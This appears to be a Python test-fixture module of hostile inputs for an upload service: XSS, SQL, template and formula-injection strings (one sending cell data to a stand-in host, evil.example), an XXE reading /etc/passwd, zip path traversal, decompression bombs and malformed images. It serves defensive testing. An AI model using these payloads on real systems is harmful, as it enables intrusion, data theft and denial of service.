"""What strangers send to break a service: files, pictures, videos and texts, by what they try.

Each is small here, however large it gets where it is read.
"""

import bz2
import gzip
import io
import lzma
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

import pyarrow
import zstandard
from pyarrow import parquet

# Texts that are text, and stay it wherever they are shown.
TEXTS: Mapping[str, str] = {
    "script": "<script>alert(1)</script>",
    "handler": '"><img src=x onerror=alert(1)>',
    "attribute": "' onmouseover='alert(1)' x='",
    "svg": "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
    "closing": "</title></textarea></script></style>--><script>alert(1)</script>",
    "comment": "<!--><script>alert(1)</script>",
    "entity": "&lt;script&gt;&#60;b&#62;&amp;",
    "link": "javascript:alert(1)",
    "template": "{{7*7}}{% debug %}${7*7}#{7*7}",
    "format": "%s %(title)s {0} {title.__class__}",
    "formula": "=HYPERLINK('http://evil.example?'&A1,'click')",
    "formula-plus": "+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-wide": "\N{FULLWIDTH EQUALS SIGN}1+1",
    "sql": "'; DROP TABLE recommender_product; --",
    "right-to-left": "mug \N{RIGHT-TO-LEFT OVERRIDE}gpj.exe\N{POP DIRECTIONAL FORMATTING} עברית",
    "zero-width": "m\N{ZERO WIDTH SPACE}u\N{ZERO WIDTH JOINER}g\N{WORD JOINER}\N{SOFT HYPHEN}",
    "marks": "m" + "\N{COMBINING ACUTE ACCENT}" * 200,
    "terminal": "\x1b]0;owned\x07\x1b[2Jmug",
    "controls": "a\x01\x7f\x85\N{LINE SEPARATOR}b",
    "lines": "a\r\nSet-Cookie: x=1\r\n\r\nb",
    "emoji": "\N{PILE OF POO}\N{VARIATION SELECTOR-16}\N{MUSICAL SYMBOL G CLEF}",
    "not-a-character": "\ufffe\U0010ffff\ufeff",
    "backslashes": "\\u0000 \\x00 \\' \\\" C:\\new",
}


def zipped(*members: tuple[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP archive of these names and contents."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return buffer.getvalue()


def workbook(rows: str) -> bytes:
    """An Excel workbook of one sheet with these `row` elements."""
    package = "http://schemas.openxmlformats.org/package/2006"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    relation = (
        '<Relationships xmlns="{}/relationships"><Relationship Id="r" Type="{}" Target="{}"/>'
    )
    return zipped(
        ("[Content_Types].xml", f'<Types xmlns="{package}/content-types"/>'),
        (
            "_rels/.rels",
            relation.format(package, f"{office}/officeDocument", "xl/workbook.xml")
            + "</Relationships>",
        ),
        (
            "xl/workbook.xml",
            f'<workbook xmlns="{main}" xmlns:r="{office}"><sheets>'
            '<sheet name="a" sheetId="1" r:id="r"/></sheets></workbook>',
        ),
        (
            "xl/_rels/workbook.xml.rels",
            relation.format(package, f"{office}/worksheet", "worksheets/a.xml")
            + "</Relationships>",
        ),
        (
            "xl/worksheets/a.xml",
            f'<worksheet xmlns="{main}"><sheetData>{rows}</sheetData></worksheet>',
        ),
    )


def _cell(place: str, text: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


_NAMES = f'<row r="1">{_cell("A1", "id")}{_cell("B1", "title")}</row>'


def _parquet(**columns: object) -> bytes:
    buffer = io.BytesIO()
    parquet.write_table(pyarrow.table(columns), buffer, compression="zstd")
    return buffer.getvalue()


def _same_text(size: int, count: int) -> pyarrow.DictionaryArray:
    """So many rows of one text, which is stored once."""
    places = pyarrow.array([0] * count, pyarrow.int32())
    return pyarrow.DictionaryArray.from_arrays(places, pyarrow.array(["x" * size]))


def _flipped(content: bytes, start: int, stop: int) -> bytes:
    return content[:start] + bytes(byte ^ 0xFF for byte in content[start:stop]) + content[stop:]


def _with_flag(archive: bytes, local: int, central: int, value: int) -> bytes:
    """An archive of one file with a byte of both its headers changed."""
    changed = bytearray(archive)
    changed[local] = changed[archive.index(b"PK\1\2") + central] = value
    return bytes(changed)


def _laughs(where: str) -> bytes:
    """A feed whose entities unfold to 20 GB, in a text or an attribute."""
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    return f"<!DOCTYPE rss [{entities}]><rss><item><id>1</id>{where}</item></rss>".encode()


_HEADER = b"id,title\n"
_ROWS = _HEADER + b"".join(b"%d,mug %d\n" % (n, n) for n in range(2_000))
_ITEM = b"<item><id>1</id><title>x</title></item>"

# What unfolds to far more than it is: a file's name and content, made when asked for.
BOMBS: Mapping[str, Callable[[], tuple[str, bytes]]] = {
    "gzip-zeros": lambda: ("a.csv.gz", gzip.compress(_HEADER + bytes(60_000_000), 1)),
    "gzip-rows": lambda: (
        "a.csv.gz",
        gzip.compress(_HEADER + (b"1," + b"x" * 97 + b"\n") * 200_000),
    ),
    "zstd": lambda: (
        "a.csv.zst",
        zstandard.ZstdCompressor(level=1).compress(_HEADER + b"a" * 300_000_000),
    ),
    "zip": lambda: ("a.zip", zipped(("a.csv", _HEADER + bytes(60_000_000)))),
    "zip-many": lambda: ("a.zip", zipped(*((f"{n}.csv", "") for n in range(5_000)))),
    "workbook-corner": lambda: (
        "a.xlsx",
        workbook(_NAMES + f'<row r="1048576">{_cell("XFD1048576", "x")}</row>'),
    ),
    "workbook-text": lambda: (
        "a.xlsx",
        workbook(_NAMES + f"<row>{_cell('A2', 'x' * 30_000_000)}</row>"),
    ),
    "workbook-rows": lambda: (
        "a.xlsx",
        workbook(_NAMES + "<row><c><v>1</v></c><c><v>2</v></c></row>" * 50_000),
    ),
    "parquet-texts": lambda: (
        "a.parquet",
        _parquet(id=_same_text(1, 4_000), title=_same_text(1_000_000, 4_000)),
    ),
    "json-lists": lambda: ("a.json", b'{\n"products":\n[' + b"[]," * 5_000_000 + b"{}]}"),
    "json-depth": lambda: ("a.json", b'[{"id":"1"},' + b"[" * 1_000_000 + b"]"),
    "json-names": lambda: (
        "a.jsonl",
        b"\n".join(
            b'{"id":%d,%s}' % (row, b",".join(b'"k%d_%d":1' % (row, n) for n in range(9_000)))
            for row in range(60)
        ),
    ),
    "xml-entities": lambda: ("a.xml", _laughs("<title>&a9;</title>")),
    "xml-attribute": lambda: ("a.xml", _laughs('<title a="&a9;">x</title>')),
    "xml-elements": lambda: ("a.xml", b"<rss>" + _ITEM + b"<a/>" * 2_000_000 + b"</rss>"),
    "xml-item": lambda: ("a.xml", b"<rss><item><id>1</id>" + b"<a/>" * 2_000_000),
    "xml-channels": lambda: (
        "a.xml",
        b"<rss>" + b"<a><item><id>1</id></item></a>" * 150_000 + b"</rss>",
    ),
    "csv-quotes": lambda: ("a.csv", _HEADER + b'x","\n' * 30_000),
    "csv-quoted-header": lambda: ("a.csv", b'x","\n' * 100_000),
    "csv-columns": lambda: ("a.csv", b"id,title" + b",x" * 400_000 + b"\n1,a" + b",y" * 400_000),
    "csv-line": lambda: ("a.csv", _HEADER + b"1," + b"x" * 20_000_000 + b"\n2,b\n"),
}

# What is no file of rows, or a damaged or odd one.
FILES: Mapping[str, tuple[str, bytes]] = {
    "empty": ("a.csv", b""),
    "blank": ("a.csv", b"\n" * 10_000),
    "noise": ("a.csv", random.Random(1).randbytes(20_000)),
    "picture": ("a.csv", b"\x89PNG\r\n\x1a\n" + random.Random(2).randbytes(500)),
    "nul": ("a.csv", _HEADER + b"1,a\0b\n2,c\n"),
    "carriage-returns": ("a.csv", b"id,title\r1,a\r2,b\r"),
    "quote-in-header": ("a.csv", b'id,"title\n1,a\n'),
    "said-delimiter": ("a.csv", b'sep="\nid"title\n1"a\n'),
    "half-utf-16": ("a.csv", b"\xff\xfe" + "id,title\n1,a\n".encode("utf-16-le") + b"\xd8"),
    "csv-huge-numbers": ("a.csv", b"id,price\n1,1e999\n2,NaN\n3," + b"9" * 6_000 + b"\n4,-0\n"),
    "json-surrogate": ("a.jsonl", b'{"id":"1","title":"\\ud800"}\n{"id":"2","title":"a"}'),
    "json-numbers": ("a.jsonl", b'{"id":"1"}\n{"id":"2","price":' + b"9" * 6_000 + b"}\n"),
    "json-deep-row": (
        "a.jsonl",
        b'{"id":"1"}\n{"id":"2","attributes":' + b"[" * 400 + b"]" * 400 + b"}",
    ),
    "json-deep-object": (
        "a.json",
        b'{\n"products":[{"id":"1"},{"id":"2","x":' + b"[" * 400 + b"]" * 400 + b"}\n]}",
    ),
    "json-open": ("a.json", b'[{"id":"1","title":"a"},{"id":"2'),
    "xml-open": ("a.xml", b"<rss>" + _ITEM + b"<item><id>2"),
    "xml-deep": ("a.xml", b"<rss><item><id>1</id>" + b"<a>" * 3_000),
    "xml-file": (
        "a.xml",
        b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><item><id>1</id>'
        b"<title>&x;</title></item></rss>",
    ),
    "zip-in-zip": ("a.zip", zipped(("b.zip", zipped(("c.csv", _ROWS))))),
    "zip-path": ("a.zip", zipped(("../../../../tmp/evil.csv", _ROWS))),
    "zip-nothing": ("a.zip", zipped()),
    "zip-cut": ("a.zip", zipped(("a.csv", _ROWS))[:-100]),
    "zip-name": ("a.zip", zipped(("ü.csv", _ROWS)).replace("ü".encode(), b"\xff\xff")),
    "zip-encrypted": ("a.zip", _with_flag(zipped(("a.csv", _ROWS)), 6, 8, 1)),
    "zip-unknown": ("a.zip", _with_flag(zipped(("a.csv", _ROWS)), 8, 10, 99)),
    "zip-deflate": ("a.zip", _flipped(zipped(("a.csv", _ROWS)), 40, 60)),
    "zip-lzma": ("a.zip", _flipped(zipped(("a.csv", _ROWS), method=zipfile.ZIP_LZMA), 60, 90)),
    "zip-bzip2": ("a.zip", _flipped(zipped(("a.csv", _ROWS), method=zipfile.ZIP_BZIP2), 50, 80)),
    "gzip-cut": ("a.csv.gz", gzip.compress(_ROWS)[:-30]),
    "gzip-more": ("a.csv.gz", gzip.compress(_ROWS) + b"more"),
    "bzip2": ("a.csv.bz2", bz2.compress(_ROWS)),
    "xz": ("a.csv.xz", lzma.compress(_ROWS)),
    "zstd-window": ("a.csv.zst", b"\x28\xb5\x2f\xfd\x00\xf8" + bytes(20)),
    "workbook-open": ("a.xlsx", workbook('<row r="1"><c r="A1')),
    "workbook-empty": ("a.xlsx", zipped(("xl/workbook.xml", "<x/>"))),
    "parquet-cut": ("a.parquet", _parquet(id=["1"], title=["a"])[:200]),
    "parquet-noise": (
        "a.parquet",
        _flipped(_parquet(id=list(map(str, range(99))), title=["a"] * 99), 30, 90),
    ),
}


def png(width: int, height: int) -> bytes:
    """A PNG of one pixel that says it has so many."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        checked = kind + content
        return struct.pack(">I", len(content)) + checked + struct.pack(">I", zlib.crc32(checked))

    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    pixel = zlib.compress(bytes(5))
    signature = b"\x89PNG\r\n\x1a\n"
    return signature + chunk(b"IHDR", header) + chunk(b"IDAT", pixel) + chunk(b"IEND", b"")


_SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"

# What is said to be a picture, and is none that anybody can use.
PICTURES: Mapping[str, bytes] = {
    "one-wide": png(1, 49_000_000),
    "square": png(60_000, 60_000),
    "negative": png(0xFFFFFFFF, 0xFFFFFFFF),
    "no-pixel": png(0, 0),
    "cut-off": png(8, 8)[:40],
    "signature-alone": png(1, 1)[:8],
    "svg": _SVG,
    "html": b"<!doctype html><script>alert(1)</script>",
    "gif-and-script": b"GIF89a/*" + _SVG + b"*/=1;alert(1)//",
    "zip-after-picture": png(0, 0) + zipped(("mug.txt", "mug")),
    "pdf": b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj",
    "xml-entities": b"<!DOCTYPE a [<!ENTITY b 'c'>]><svg>&b;</svg>",
    "executable": b"\x7fELF" + bytes(60),
    "zeros": bytes(1000),
    "nothing": b"",
}
